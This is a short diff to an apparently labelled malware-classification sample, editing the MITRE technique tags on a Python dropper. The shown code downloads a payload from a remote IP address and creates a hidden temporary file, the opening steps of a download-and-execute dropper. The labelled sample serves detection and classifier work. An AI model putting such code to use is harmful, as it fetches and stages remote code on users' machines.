@@ -1,4 +1,4 @@
-# label: malicious family=dropper techniques=T1105,T1222.002,T1059.004,T1070.004 lines=3,5,7-9
+# label: malicious family=dropper techniques=T1070.004,T1105,T1222.002,T1564.001 lines=3,5,7-9
 import os, tempfile, urllib.request, subprocess
 data = urllib.request.urlopen("http://198.51.100.19/m").read()
 fd, path = tempfile.mkstemp(prefix=".")
